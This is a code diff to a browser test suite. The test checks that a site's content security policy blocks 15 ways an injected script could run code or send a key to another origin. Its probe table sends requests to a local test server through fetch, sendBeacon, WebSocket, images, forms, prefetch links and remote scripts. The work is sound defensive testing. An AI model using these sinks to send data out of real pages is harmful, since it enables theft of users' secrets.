@@ -1,7 +1,14 @@
 import { createServer } from 'node:http'
 import { close, listen } from '#tests/support/listen.ts'
-import { startDeployedSite } from './core-fixtures.ts'
-import { configFor, expect, test } from './fixtures.ts'
+import { expect, test } from './fixtures.ts'
+
+/** In the page: what becomes of a request. */
+function settled(target: EventTarget, success = 'load'): Promise<unknown> {
+  return new Promise((resolve, reject) => {
+    target.addEventListener(success, resolve)
+    target.addEventListener('error', reject)
+  })
+}
 
 /**
  * How an injected script could run more code or send the key to another origin. Each function runs in the page, with an
@@ -10,19 +17,8 @@ import { configFor, expect, test } from './fixtures.ts'
 const SINKS: Readonly<Record<string, (otherOrigin: string) => unknown>> = {
   fetch: (otherOrigin) => fetch(`${otherOrigin}/fetch`, { mode: 'no-cors' }),
   sendBeacon: (otherOrigin) => navigator.sendBeacon(`${otherOrigin}/beacon`, 'k'),
-  WebSocket: (otherOrigin) =>
-    new Promise((resolve, reject) => {
-      const socket = new WebSocket(otherOrigin.replace('http', 'ws'))
-      socket.addEventListener('open', resolve)
-      socket.addEventListener('error', reject)
-    }),
-  'an image': (otherOrigin) =>
-    new Promise((resolve, reject) => {
-      const image = new Image()
-      image.addEventListener('load', resolve)
-      image.addEventListener('error', reject)
-      image.src = `${otherOrigin}/image`
-    }),
+  WebSocket: (otherOrigin) => settled(new WebSocket(otherOrigin.replace('http', 'ws')), 'open'),
+  'an image': (otherOrigin) => settled(Object.assign(new Image(), { src: `${otherOrigin}/image` })),
   'a form': (otherOrigin) => {
     const form = document.createElement('form')
     form.action = `${otherOrigin}/form`
@@ -30,15 +26,14 @@ const SINKS: Readonly<Record<string, (otherOrigin: string) => unknown>> = {
     document.body.append(form)
     form.submit()
   },
-  prefetch: (otherOrigin) =>
-    new Promise((resolve, reject) => {
-      const link = document.createElement('link')
-      link.rel = 'prefetch'
-      link.href = `${otherOrigin}/prefetch`
-      link.addEventListener('load', resolve)
-      link.addEventListener('error', reject)
-      document.head.append(link)
-    }),
+  prefetch: (otherOrigin) => {
+    const link = Object.assign(document.createElement('link'), {
+      rel: 'prefetch',
+      href: `${otherOrigin}/prefetch`,
+    })
+    document.head.append(link)
+    return settled(link)
+  },
   innerHTML: () => {
     document.body.innerHTML = '<img src="/none" onerror="ran.push(1)">'
   },
@@ -49,18 +44,12 @@ const SINKS: Readonly<Record<string, (otherOrigin: string) => unknown>> = {
     document.createElement('script').src = `${otherOrigin}/script.js`
   },
   DOMParser: () => new DOMParser().parseFromString('<p></p>', 'text/html'),
-  'a timer of text': () =>
-    new Promise((resolve, reject) => {
-      // oxlint-disable-next-line typescript/no-implied-eval
-      setTimeout('ran.push("timer")')
-      setTimeout(
-        () =>
-          'ran' in window && String(window.ran).includes('timer')
-            ? resolve(true)
-            : reject(new Error('not run')),
-        50,
-      )
-    }),
+  'a timer of text': async () => {
+    // oxlint-disable-next-line typescript/no-implied-eval
+    setTimeout('ran.push("timer")')
+    await new Promise((resolve) => setTimeout(resolve, 50))
+    if (!String((window as unknown as { ran: string[] }).ran).includes('timer')) throw new Error('not run')
+  },
   'a policy of its own': () =>
     (window as unknown as { trustedTypes: { createPolicy: (...args: unknown[]) => unknown } }).trustedTypes //
       .createPolicy('own', { createHTML: String }),
@@ -74,6 +63,7 @@ const SINKS: Readonly<Record<string, (otherOrigin: string) => unknown>> = {
 function probe(otherOrigin: string): string {
   const sinks = Object.entries(SINKS).map(([name, sink]) => `${JSON.stringify(name)}: ${String(sink)}`)
   return `
+    ${String(settled)}
     window.ran = []
     const violations = []
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
@@ -98,8 +88,7 @@ test.use({ expectsErrors: true })
 
 test('each of 15 ways to run code or send data is blocked, and nothing arrives at another origin', async ({
   page,
-  petstore,
-  production,
+  site,
 }) => {
   const arrived: string[] = []
   const otherServer = createServer(({ url = '' }, outgoing) => {
@@ -107,13 +96,15 @@ test('each of 15 ways to run code or send data is blocked, and nothing arrives a
     outgoing.end()
   })
   const origin = `http://127.0.0.1:${await listen(otherServer)}`
-  const files = {
-    'assets/probe.html': '<!doctype html><title>Probe</title><body><script src="/assets/probe.js"></script>',
-    'assets/probe.js': probe(origin),
-  }
-  const host = await startDeployedSite(configFor(petstore, production), files)
+  site.interceptAssets((url, outgoing) => {
+    if (url === '/assets/probe.html') {
+      outgoing.setHeader('content-type', 'text/html')
+      outgoing.end('<!doctype html><title>Probe</title><body><script src="/assets/probe.js"></script>')
+    } else outgoing.setHeader('content-type', 'text/javascript').end(probe(origin))
+    return 'answered'
+  })
 
-  await page.goto(`${host.origin}/assets/probe.html`)
+  await page.goto('/assets/probe.html')
   await expect.poll(() => page.evaluate(() => 'results' in window)).toBe(true)
   const results = await page.evaluate(
     () => (window as unknown as { results: Record<string, string> }).results,
@@ -122,7 +113,5 @@ test('each of 15 ways to run code or send data is blocked, and nothing arrives a
   expect(Object.keys(results)).toHaveLength(15)
   expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
   expect(arrived).toEqual([])
-
-  await host.close()
   await close(otherServer)
 })
